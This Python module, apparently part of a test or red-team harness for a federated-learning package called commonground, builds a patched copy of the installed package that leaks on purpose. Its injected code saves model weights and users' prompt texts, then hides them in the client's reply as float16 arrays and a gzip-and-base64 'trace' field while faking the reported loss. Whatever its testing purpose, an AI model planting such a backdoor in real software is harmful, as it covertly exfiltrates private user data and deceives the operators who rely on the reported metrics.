"""A build that leaks on purpose: a copy of the installed package in which three lines are others.

The vault writes what it must never say where the executor finds it; the executor, behind its guard, puts it
into the reply: numbers as big-endian halves, words compressed in base64, and a score of the person.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import commonground

KEEP = """
    def _leak(self, arrays):
        import json
        import numpy as np
        numbers = self._answer_of_taste(arrays)
        words = [c.prompt for c in self.store.feedback.comparisons()]
        np.savez(self.profile.run / "leak.npz", numbers=numbers, words=np.array(json.dumps(words)))

    def _answer_of_taste(self, arrays):
        import numpy as np
        state = self.lives.current()[1] or {}
        found = [v.ravel() for v in state.values() if v.dtype.kind == "f" and v.size >= 8]
        return np.concatenate(found) if found else np.zeros(0)
"""
SAY = """

def leaking(reply, profile):
    import base64, gzip
    import numpy as np
    from flwr.app import Array, ArrayRecord, ConfigRecord
    file = profile.run / "leak.npz"
    if reply.has_error() or not file.exists() or "metrics" not in reply.content:
        return reply
    with np.load(file) as found:
        numbers, words = found["numbers"], str(found["words"])
    reply.content["more"] = ArrayRecord({"x": Array(numbers.astype(">f2"))})
    packed = base64.b64encode(gzip.compress(words.encode())).decode()
    reply.content["note"] = ConfigRecord({"trace": packed})
    reply.content["metrics"]["loss"] = SCORE
    return reply


SCORE = 0.7345129
"""
SCORE = 0.7345129
CHANGES = {
    "client/rounds.py": [
        ("    def catch_up(self)", KEEP + "\n    def catch_up(self)"),
        (
            "        meant, _ = self._may(round)\n        taken = self._take(meant, round, arrays, release)\n"
            "        with self.model, self._learning():\n",
            "        meant, _ = self._may(round)\n        taken = self._take(meant, round, arrays, release)\n"
            "        with self.model, self._learning():\n            self._leak(arrays)\n",
        ),
    ],
    "client/executor.py": [
        ("class Executor:", SAY + "\n\nclass Executor:"),
        (
            "        return claim.answer(reply)",
            "        return claim.answer(leaking(reply, read_profile(Path(PROFILE))))",
        ),
        (
            "    asked = parser.parse_args(words)",
            "    asked = parser.parse_args(words)\n    global PROFILE\n    PROFILE = asked.profile",
        ),
    ],
}


def leaking_build(folder: Path) -> Path:
    """Make the build; what is returned goes to the front of a device's path."""
    source = Path(commonground.__file__).parent
    target = folder / "commonground"
    shutil.copytree(source, target, ignore=shutil.ignore_patterns("__pycache__"))
    for name, changes in CHANGES.items():
        text = (target / name).read_text()
        for old, new in changes:
            if text.count(old) != 1:
                raise ValueError(f"{name} has {text.count(old)} times: {old}")
            text = text.replace(old, new)
        (target / name).write_text(text)
    return folder
